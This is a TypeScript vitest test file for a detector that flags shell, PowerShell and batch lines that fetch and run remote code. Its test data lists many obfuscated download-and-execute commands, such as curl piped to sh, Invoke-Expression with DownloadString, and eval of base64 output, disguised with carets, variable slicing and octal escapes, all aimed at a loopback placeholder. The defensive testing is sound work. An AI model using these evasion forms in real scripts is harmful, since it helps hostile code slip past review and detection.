import { describe, expect, it } from 'vitest';
import { INSTALL_ROWS, installsIn } from './installs.ts';
import { SCRIPT_ROWS } from './script-rows.ts';
import { judgeScript } from './scripts.ts';

describe('rows of scripts and of settings that install', () => {
  const rows = [...SCRIPT_ROWS, ...INSTALL_ROWS];
  it.each(rows.flatMap(({ pattern, fires }) => fires.map((line) => [line, pattern] as const)))(
    '%s fires',
    (line, pattern) => {
      expect(pattern.test(line)).toBe(true);
    },
  );

  it.each(rows.flatMap(({ pattern, quiet }) => quiet.map((line) => [line, pattern] as const)))(
    '%s does not',
    (line, pattern) => {
      expect(pattern.test(line)).toBe(false);
    },
  );

  it.each(SCRIPT_ROWS.flatMap(({ quiet }) => quiet))('no row minds %s', (line) => {
    expect(judgeScript(line)).toBeNull();
  });

  it.each(INSTALL_ROWS.flatMap(({ quiet }) => quiet))('no setting minds %s', (line) => {
    expect(installsIn(line)).toBe(false);
  });

  it.each([
    ['continued', 'curl -s http://127.0.0.1:9/x \\\n  | sh', 'fetched-code'],
    ['with carets', 'p^o^w^e^r^s^h^e^l^l -e^n^c SQBFAFgAIAAoAE4A', 'attacking-script'],
    ['with ticks', 'I`nvoke-Expre`ssion (New-Object Net.WebClient).DownloadString("x")', 'attacking-script'],
    ['with blanks out of a variable', 'curl${IFS}http://127.0.0.1:9/x|sh', 'fetched-code'],
    ['in names', 'c=curl\n$c http://127.0.0.1:9/x | sh', 'fetched-code'],
    ['in names that meant something else before', 'c=echo\nc=curl\n$c http://127.0.0.1:9/x | sh', 'fetched-code'],
    ['in names that mean something else later', 'c=curl\n$c http://127.0.0.1:9/x | sh\nc=echo', 'fetched-code'],
    ['beside a lure', 'x=1\nu=\ncurl "$u" | sh', 'fetched-code'],
    ['by slices of names', 'x=abcurlsh\n${x:2:4} http://127.0.0.1:9/x | ${x:6:2}', 'fetched-code'],
    ['by a name of a name', 'n=c; c="curl http://127.0.0.1:9/x"; ${!n} | sh', 'fetched-code'],
    ['in a list', 'a=(curl -s http://127.0.0.1:9/x); "${a[@]}" | sh', 'fetched-code'],
    ['that a command gave', 'd=$(echo dHJ1ZQ== | base64 -d)\neval "$d"', 'attacking-script'],
    ['of a batch file', 'set a=po^wer&set b=shell\n%a%%b% -c "iex(irm http://127.0.0.1:9/x)"', 'attacking-script'],
    ['in pieces', "& ('I'+'EX') (('New-Object Net.We'+'bClient')).DownloadString('x')", 'attacking-script'],
    ['behind a comment', '# nothing \\\ncurl -s http://127.0.0.1:9/x | sh', 'fetched-code'],
    ['among comments', 'RUN true && \\\n  # now\n  curl -s http://127.0.0.1:9/x | sh', 'fetched-code'],
    [
      'with what an address answered',
      'const t = await (await fetch("http://127.0.0.1:9/x")).text();\nnew Function(t)();',
      'fetched-code',
    ],
    ['with quotes within words', 'w"g"et -qO- http://127.0.0.1:9/x | b"a"sh', 'fetched-code'],
    ['with letters by codes', "$'\\143\\165\\162\\154' http://127.0.0.1:9/x | sh", 'fetched-code'],
    ['with names beside one another', 'a=cu b=rl; $a$b http://127.0.0.1:9/x | sh', 'fetched-code'],
    ['through another user', 'curl http://127.0.0.1:9/x | su -c bash', 'fetched-code'],
    ['as a file of an interpreter', 'python3 <(curl http://127.0.0.1:9/x)', 'fetched-code'],
    ['as a list', 'RUN ["sh", "-c", "curl http://127.0.0.1:9/x | sh"]', 'fetched-code'],
  ])('a line %s is one line', (_, text, rule) => {
    expect(judgeScript(text)?.rule.id).toBe(`remote-code/${rule}`);
  });

  it('a comment runs nothing', () => {
    expect(judgeScript('# curl -s http://127.0.0.1:9/x | sh\necho done')).toBeNull();
  });
});
